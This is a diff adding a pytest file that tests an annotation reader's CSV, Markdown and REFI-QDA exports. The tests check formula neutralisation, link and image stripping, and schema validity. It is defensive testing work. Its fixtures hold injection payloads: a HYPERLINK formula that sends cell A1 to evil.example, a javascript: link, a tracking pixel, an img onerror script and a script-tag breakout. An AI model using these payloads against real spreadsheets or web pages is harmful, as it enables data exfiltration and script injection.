@@ -1,0 +1,209 @@
+"""Exports that open right in their apps, and carry nothing hostile (issues 12 and 14).
+
+CSV for spreadsheets set to German, formula cells neutralised in every CSV export,
+Markdown notes for Obsidian (front matter, block ids), unsafe links and remote images
+kept out of Markdown, claims tables escaped, and the REFI-QDA project validated against
+the QDA-XML 1.0 schema with every selection's span equal to its highlight's quote.
+"""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from reader.core.export import ExportOptions
+from reader.core.export.csv_writer import COLUMNS
+from reader.core.library import Library
+from reader.core.models import AnnotationId
+from tests.annotation_helpers import annotate, annotate_seeds
+
+DATA = Path(__file__).resolve().parents[1] / "data" / "conformance" / "refi-qda"
+NS = {"q": "urn:QDA-XML:project:1.0"}
+HOSTILE_NOTE = ('=HYPERLINK("http://evil.example/?x="&A1,"click") '
+                '[x](javascript:alert(1)) ![](http://tracker.example/pixel.gif) '
+                '<img src=x onerror=alert(1)>')
+
+
+def _hostile(library: Library) -> AnnotationId:
+    return annotate(library, "000", "Gigawatt", 1, label="Claim", note=HOSTILE_NOTE,
+                    tags=["+cmd", "@SUM(1)", "-2", "\tTab"])
+
+
+# ----------------------------------------------------------------------------------- CSV
+
+
+def test_csv_opens_as_columns_in_a_german_spreadsheet(library: Library, tmp_path: Path) -> None:
+    annotate_seeds(library)
+    out = tmp_path / "highlights.csv"
+    library.export_output("csv", ExportOptions(csv_delimiter=";")).write(out)
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, umlauts intact
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
+                           delimiter=";"))
+    assert tuple(rows[0]) == COLUMNS
+    assert rows[0][:7] == ["document_title", "outlet", "date", "label", "quote", "note",
+                           "tags"]
+    assert rows[0][-2:] == ["id", "document_id"]
+    assert all(len(row) == len(COLUMNS) for row in rows)
+    quotes = {row[4] for row in rows[1:]}
+    assert "über ein Gigawatt zusätzlicher Rechenkapazität" in quotes
+    titles = {row[0] for row in rows[1:]}
+    assert any("ü" in t or "ä" in t or "ö" in t for t in titles | quotes)
+
+
+def test_csv_context_is_cut_at_word_boundaries(library: Library) -> None:
+    annotate_seeds(library)
+    rows = list(csv.DictReader(io.StringIO(library.export("csv")[1:], newline="")))
+    for row in rows:
+        doc = library.get(row["document_id"])
+        start, end = int(row["start"]), int(row["end"])
+        before, after = (re.sub(r"^'(?=[-=+@\t\r])", "", row[key])  # neutralised cells
+                         for key in ("context_before", "context_after"))
+        if before:
+            at = doc.text.rindex(before, 0, start + 1)
+            assert at == 0 or not doc.text[at - 1].isalnum(), before
+        if after:
+            at = doc.text.index(after, end - 1) + len(after)
+            assert at == len(doc.text) or not doc.text[at].isalnum(), after
+
+
+def test_no_csv_cell_starts_a_formula(library: Library) -> None:
+    ann = _hostile(library)
+    other = annotate(library, "001", "Gigawatt", 1, label="Claim")
+    library.annotations.link(ann, other, "same-claim")
+    for delimiter in (",", ";"):
+        text = library.export_output("csv", ExportOptions(csv_delimiter=delimiter)) \
+            .files[""].decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        row = dict(zip(rows[0], next(r for r in rows[1:] if "HYPERLINK" in r[5]),
+                       strict=True))
+        assert row["note"] == "'" + HOSTILE_NOTE
+        assert row["tags"] == "'+cmd; @SUM(1); -2; Tab"
+    from reader.core.compare import claim_groups_csv
+
+    text = claim_groups_csv(library.claim_groups())
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+# ------------------------------------------------------------------------------ Markdown
+
+
+def test_markdown_keeps_unsafe_links_and_remote_images_out(library: Library) -> None:
+    _hostile(library)
+    text = library.export("md")
+    assert "javascript:" not in text
+    assert "![" not in text and "<img" not in text
+    assert "[image (remote image, not loaded)](http://tracker.example/pixel.gif)" in text
+    kept = library.export_output("md", ExportOptions(remote_images=True)).files[""].decode()
+    assert "![](http://tracker.example/pixel.gif)" in kept and "javascript:" not in kept
+
+
+def test_claims_markdown_quotes_are_escaped(library: Library) -> None:
+    from reader.core.compare import claim_groups_markdown
+
+    service = library.annotations
+    a = annotate(library, "000", "Gigawatt", 1)
+    b = annotate(library, "001", "Gigawatt", 1)
+    service.link(a, b, "same-claim")
+    evil = "</textarea><script>alert(1)</script> | *x*"
+    patched = [dataclasses.replace(g, claim=evil) for g in library.claim_groups()]
+    table = claim_groups_markdown(patched)
+    assert "<script>" not in table and "</textarea>" not in table
+    assert "&lt;script&gt;" in table
+    assert table.splitlines()[2].count(" | ") == table.splitlines()[0].count(" | ")
+
+
+def test_markdown_split_writes_one_note_per_document(library: Library, tmp_path: Path) -> None:
+    ids = annotate_seeds(library)
+    out = tmp_path / "notes"
+    output = library.export_output("md", ExportOptions(split=True))
+    written = output.write(out)
+    assert len(written) == 5 and all(p.suffix == ".md" for p in written)
+    titles = {library.get(library.resolve(p)).title for p in ("000", "001", "002", "003", "004")}
+    by_title: dict[str, str] = {}
+    for path in written:
+        text = path.read_text(encoding="utf-8")
+        front, body = text.split("\n---\n", 1)
+        assert front.startswith("---\n")
+        fields = dict(line.split(": ", 1) for line in front.splitlines()[1:])
+        assert set(fields) >= {"title", "lang", "tags"}
+        title = fields["title"].strip('"')
+        by_title[title] = text
+        assert path.stem in title or title.startswith(path.stem[:20])
+        assert body.lstrip().startswith("# ")
+    assert set(by_title) == titles
+    de = by_title[library.get(library.resolve("000")).title]
+    block = ids["de_million"][:8]
+    assert f"\n^{block}\n" in de
+    assert "> bis zu eine Million Tensor Processing Units \\(TPUs\\)" in de or \
+        "> bis zu eine Million Tensor Processing Units (TPUs)" in de
+    assert "**Claim**" in de and '"tpu"' in de.split("---")[1]
+    # A link to a highlight in another note is an Obsidian block link.
+    target = library.get(library.resolve("001")).title
+    assert re.search(r"supports \[\[" + re.escape(target[:20]), de)
+    assert f"#^{ids['de_gigawatt'][:8]}]]" in de
+
+
+# -------------------------------------------------------------------------------- REFI-QDA
+
+
+def _schema() -> object:
+    etree = pytest.importorskip("lxml.etree")
+    return etree.XMLSchema(etree.parse(str(DATA / "Project.xsd")))
+
+
+def _project(data: bytes) -> tuple[object, dict[str, bytes]]:
+    etree = pytest.importorskip("lxml.etree")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        files = {name: archive.read(name) for name in archive.namelist()}
+    return etree.fromstring(files["project.qde"]), files
+
+
+@pytest.mark.parametrize("crlf", [False, True])
+def test_qdpx_export_validates_and_every_span_is_its_quote(
+    library: Library, tmp_path: Path, crlf: bool,
+) -> None:
+    ids = annotate_seeds(library)
+    _hostile(library)
+    out = tmp_path / "project.qdpx"
+    output = library.export_output("qdpx", ExportOptions(crlf=crlf, user="Ana Researcher"))
+    output.write(out)
+    root, files = _project(out.read_bytes())
+    schema = _schema()
+    assert schema.validate(root), schema.error_log  # type: ignore[attr-defined]
+    selections = root.findall(".//q:PlainTextSelection", NS)  # type: ignore[attr-defined]
+    assert len(selections) == len(library.annotations.query())
+    annotations = {a.id: a for a in library.annotations.query()}
+    for source in root.findall(".//q:TextSource", NS):  # type: ignore[attr-defined]
+        path = source.get("plainTextPath")
+        assert path.startswith("internal://") and path.endswith(".txt")
+        text = files["sources/" + path[len("internal://"):]].decode("utf-8")
+        assert ("\r\n" in text) == crlf and (crlf or "\r" not in text)
+        for selection in source.findall("q:PlainTextSelection", NS):
+            annotation = annotations[selection.get("guid")]
+            start, end = int(selection.get("startPosition")), int(selection.get("endPosition"))
+            expected = annotation.selector.exact.replace("\n", "\r\n") if crlf \
+                else annotation.selector.exact
+            assert text[start:end] == expected
+    user = root.find("q:Users/q:User", NS)  # type: ignore[attr-defined]
+    assert user is not None and user.get("name") == "Ana Researcher"
+    codes = {c.get("name"): c for c in root.iter("{urn:QDA-XML:project:1.0}Code")}  # type: ignore[attr-defined]
+    assert codes["Claim"].get("color") and codes["Key figure"].get("color") == "#ff8800"
+    assert codes["Tags"].get("isCodable") == "false"
+    assert {"tpu", "energy", "+cmd"} <= {c.get("name") for c in codes["Tags"]
+                                         .findall("q:Code", NS)}
+    links = root.findall("q:Links/q:Link", NS)  # type: ignore[attr-defined]
+    assert sorted(k.get("name") for k in links) == ["contradicts", "same-claim", "same-claim",
+                                                    "supports"]
+    million = next(s for s in selections if s.get("guid") == ids["de_million"])
+    assert million.find("q:Description", NS).text.startswith("The headline number")
+    assert len(million.findall("q:Coding", NS)) == 3  # the label and two tags
